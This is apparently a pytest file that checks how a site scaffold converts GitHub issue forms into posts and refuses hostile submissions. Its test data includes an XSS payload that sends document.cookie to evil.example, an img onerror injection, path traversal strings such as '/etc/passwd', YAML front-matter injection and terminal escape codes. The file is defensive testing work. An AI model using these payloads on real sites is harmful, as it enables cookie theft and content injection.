"""GitHub issue forms: recorded submissions (tests/fixtures/issue-forms/, GitHub's own body
format) become checked posts through the scaffold's code, and hostile ones are refused with
a plain-English message and no file. The form and workflow files validate against
check-jsonschema's built-in GitHub schemas (offline: they are bundled)."""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
import sys
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import ROOT, build, check, copy_sample_campaigns
from coproweek_build.issue_form import (
    FORMS,
    FormRefused,
    draft_from_issue,
    form_questions,
    refusal_comment,
)
from coproweek_build.questions import POSTS, QUESTIONS
from coproweek_content.model import CHANNELS, Naming

PAYLOADS = ROOT / "tests" / "fixtures" / "issue-forms"
DAY = date(2025, 6, 20)  # the day the recorded forms were sent


def payload(name: str) -> dict[str, Any]:
    return json.loads((PAYLOADS / name).read_text(encoding="utf-8"))


@pytest.fixture
def content(tmp_path: Path) -> Path:
    """A content folder holding only the sample campaigns (so 2025 has one) and their photos."""
    return copy_sample_campaigns(tmp_path / "content")


def convert(event: dict[str, Any], content: Path) -> Path:
    return draft_from_issue(event, ROOT, content, DAY)[1].write()


def posts_in(content: Path) -> list[Path]:
    return [path for path in content.rglob("*.md") if "campaigns" not in path.parts]


def test_a_recorded_quote_form_becomes_a_post_that_passes_the_checks_and_builds(
    content: Path, tmp_path: Path
) -> None:
    path = convert(payload("quote.json"), content)
    assert path == content / "quotes" / "2025" / "amira-peer-researcher.md"
    code, report = check(content, COPROWEEK_STRICT=True)
    assert code == 0, report
    result, printed = build(content, tmp_path / "output")
    assert result.ok, printed
    page = (tmp_path / "output" / "2025" / "amira-peer-researcher" / "index.html").read_text(
        encoding="utf-8"
    )
    assert "We wrote the questions together this year." in page
    assert "Amira" in page and "Peer Researcher" in page
    assert "Haddad" not in page  # named by first name only, as the form said


def test_a_recorded_blog_form_by_a_group_becomes_a_post_that_passes_the_checks(
    content: Path, tmp_path: Path
) -> None:
    path = convert(payload("blog-post.json"), content)
    assert path == content / "blog" / "2025" / "tea-before-the-agenda.md"
    text = path.read_text(encoding="utf-8")
    assert "\r" not in text and "## What changed" in text
    code, report = check(content, COPROWEEK_STRICT=True)
    assert code == 0, report
    result, printed = build(content, tmp_path / "output")
    assert result.ok, printed
    page = (tmp_path / "output" / "2025" / "tea-before-the-agenda" / "index.html").read_text(
        encoding="utf-8"
    )
    assert "<h2" in page and "What changed" in page and "The carers&#39; forum" in page


def test_the_same_form_sent_twice_never_overwrites_the_first_post(content: Path) -> None:
    first = convert(payload("quote.json"), content)
    second = convert(payload("quote.json"), content)
    assert first != second and first.exists() and second.name == "amira-peer-researcher-2.md"


def refused(event: dict[str, Any], content: Path) -> str:
    """The comment a refused form gets; fails if a file was written."""
    with pytest.raises(FormRefused) as caught:
        convert(event, content)
    assert posts_in(content) == []
    comment = refusal_comment(caught.value.problems)
    assert "nothing was added to the site" in comment
    return comment


def test_a_form_without_the_consent_box_ticked_is_refused(content: Path) -> None:
    comment = refused(payload("quote-consent-not-ticked.json"), content)
    assert 'the box "Consent" is not ticked' in comment
    event = payload("quote-consent-not-ticked.json")
    event["issue"]["body"] = event["issue"]["body"].replace(
        "\n\nPeer Researcher\n", "\n\n<b>x</b>\n"
    )
    both = refused(event, content)  # every problem at once, the box among them
    assert 'the box "Consent" is not ticked' in both and "Role is plain text" in both


def test_a_hostile_recorded_form_is_refused_with_every_problem_at_once(content: Path) -> None:
    comment = refused(payload("quote-hostile.json"), content)
    assert "Speaker is plain text, so it cannot hold HTML" in comment
    assert "Role: this answer has a line break" in comment
    assert "Date: this answer has a line break" in comment
    assert "Save_as" not in (content / "quotes").as_posix()


def with_answer(label: str, value: str, name: str = "quote.json") -> dict[str, Any]:
    """A recorded form with one answer changed, as an edit of the issue's body would."""
    event = payload(name)
    sections = event["issue"]["body"].split("\n\n### ")
    for index, section in enumerate(sections):
        heading = section.removeprefix("### ").split("\n\n", 1)[0]
        if heading == label:
            sections[index] = ("### " if index == 0 else "") + f"{heading}\n\n{value}"
            break
    else:
        raise AssertionError(f"no question {label}")
    event["issue"]["body"] = "\n\n### ".join(sections)
    return event


HOSTILE = {
    "markup in a name": (
        "Name of the person who said it",
        '<img src=x onerror="alert(1)">',
        "Speaker is plain text, so it cannot hold HTML",
    ),
    "a script in the quote": (
        "The quote",
        "Good words.\n\n<script>fetch('https://evil.example/'+document.cookie)</script>",
        "removed",
    ),
    "a path in a name": (
        "Name of the person who said it",
        "../../../.github/workflows/evil",
        "looks like a file path",
    ),
    "a field injected after a line break": (
        "Their role",
        "Carer\nChannels: web, social, newsletter",
        "Role: this answer has a line break",
    ),
    "YAML front matter injected into a field": (
        "Their organisation",
        "Riverside\n---\nsave_as: index.html\n---",
        "Organisation: this answer has a line break",
    ),
    "a consent field in the text": (
        "The quote",
        "Good words.\n\nWithdrawn: no",
        "is below the blank line that ends the fields",
    ),
    "control characters": ("Their role", "Carer\x1b[2J\x07", "invisible control character"),
    "control characters in the text": (
        "The quote",
        "Good\x1b[31m words.",
        "invisible control character",
    ),
    "a huge answer": ("Their organisation", "Forum " * 400, "more than the 1,000 a field"),
    "a huge text": ("The quote", "So many words. " * 5000, "more than GitHub allows"),
    "contact details as consent": (
        "Consent register id",
        "sam@example.org",
        "looks like contact details",
    ),
    "a naming the model does not know": (
        "How they agreed to be named",
        "everything",
        "is not a way of naming someone we know",
    ),
    "a channel the model does not know": (
        "Where they agreed their words can go",
        "web, billboard",
        '"billboard" is not a channel we know',
    ),
    "a question's heading repeated inside an answer": (
        "The quote",
        "Good words.\n\n### Their role\n\nSite administrator",
        'the question "Their role" appears more than once',
    ),
}


@pytest.mark.parametrize("label, value, expected", HOSTILE.values(), ids=list(HOSTILE))
def test_a_hostile_answer_is_refused_in_plain_english_and_writes_nothing(
    content: Path, label: str, value: str, expected: str
) -> None:
    comment = refused(with_answer(label, value), content)
    assert expected in comment
    assert "Traceback" not in comment


def test_a_title_that_tries_to_choose_the_file_is_refused(content: Path) -> None:
    for title in ("../../pelicanconf", "Tea\nSlug: ../../index", "/etc/passwd"):
        event = with_answer("Title of the blog post", title, "blog-post.json")
        assert "Title: this answer" in refused(event, content)


def test_an_issue_without_a_form_label_or_with_a_heading_missing_is_refused(
    content: Path,
) -> None:
    unlabelled = payload("quote.json")
    unlabelled["issue"]["labels"] = []
    assert "is not one of the site's forms" in refused(unlabelled, content)
    both = payload("quote.json")
    both["issue"]["labels"] = [{"name": "new quote"}, {"name": "new blog post"}]
    assert "is not one of the site's forms" in refused(both, content)
    cut = payload("quote.json")
    cut["issue"]["body"] = cut["issue"]["body"].replace("### Their role\n\n", "")
    assert 'the question "Their role" is missing' in refused(cut, content)


def test_each_post_forms_questions_are_the_scaffolds_and_its_choices_the_models() -> None:
    for label, (kind, name) in FORMS.items():
        if kind not in POSTS:
            continue  # an event names no one: tests/test_event_form.py
        form = yaml.safe_load((ROOT / ".github" / "ISSUE_TEMPLATE" / name).read_text("utf-8"))
        assert form["labels"] == [label]
        keys = {question.key for question in QUESTIONS if kind in question.kinds}
        questions = form_questions(ROOT, kind)
        asked = {question.id for question in questions if question.type != "checkboxes"}
        assert asked <= keys, asked - keys
        assert {"naming", "channels", "consent", "date", "role"} <= asked
        elements = {element.get("id"): element for element in form["body"]}
        assert elements["naming"]["attributes"]["options"] == [
            Naming.FIRST_NAME.value,  # the model's default comes first, chosen already
            *(mode.value for mode in Naming if mode is not Naming.FIRST_NAME),
        ]
        assert elements["channels"]["attributes"]["options"] == list(CHANNELS)
        assert elements["channels"]["attributes"]["multiple"] is True
        consent = elements["agreed"]
        assert consent["type"] == "checkboxes"
        assert all(option["required"] for option in consent["attributes"]["options"])


def check_jsonschema(schema: str, *files: Path) -> subprocess.CompletedProcess[str]:
    command = Path(sys.executable).parent / "check-jsonschema"
    return subprocess.run(
        [str(command), "--builtin-schema", schema, *map(str, files)],
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_the_forms_and_workflows_validate_against_githubs_schemas(tmp_path: Path) -> None:
    forms = sorted((ROOT / ".github" / "ISSUE_TEMPLATE").glob("new-*.yml"))
    workflows = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
    assert len(forms) == len(FORMS) and len(workflows) >= 3
    for schema, files in (
        ("vendor.github-issue-forms", forms),
        ("vendor.github-issue-config", [ROOT / ".github" / "ISSUE_TEMPLATE" / "config.yml"]),
        ("vendor.github-workflows", workflows),
    ):
        done = check_jsonschema(schema, *files)
        assert done.returncode == 0, done.stdout + done.stderr
    # The same check fails on a form that is wrong, so the passes above mean something.
    broken = copy.deepcopy(yaml.safe_load(forms[0].read_text(encoding="utf-8")))
    del broken["body"][1]["attributes"]["label"]
    wrong = tmp_path / "broken.yml"
    wrong.write_text(yaml.safe_dump(broken), encoding="utf-8")
    assert check_jsonschema("vendor.github-issue-forms", wrong).returncode == 1


def test_the_workflow_never_puts_issue_text_into_a_shell_command() -> None:
    text = (ROOT / ".github" / "workflows" / "issue-form.yml").read_text(encoding="utf-8")
    workflow = yaml.safe_load(text)
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            script = step.get("run", "")
            assert "${{" not in script, f"an expression inside a shell command: {script}"
    assert "github.event.issue.body" not in text and "github.event.issue.title" not in text
    assert set(workflow["permissions"].values()) == {"read"} or workflow["permissions"] == {}


def test_the_task_refuses_a_hostile_form_without_a_traceback(tmp_path: Path) -> None:
    project = tmp_path / "site"
    for name in ("plugins", "theme", ".github"):
        shutil.copytree(ROOT / name, project / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("tasks.py", "pelicanconf.py", "publishconf.py"):
        shutil.copy2(ROOT / name, project / name)
    copy_sample_campaigns(project / "content")
    comment = tmp_path / "comment.md"
    outputs = tmp_path / "outputs"
    done = subprocess.run(
        [str(Path(sys.executable).parent / "invoke"), "from-issue"]
        + ["--event", str(PAYLOADS / "quote-hostile.json"), "--comment", str(comment)]
        + ["--outputs", str(outputs)],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 1
    assert "Nothing was written." in done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    assert "Role: this answer has a line break" in comment.read_text(encoding="utf-8")
    assert not outputs.exists() and not (project / "content" / "quotes").exists()
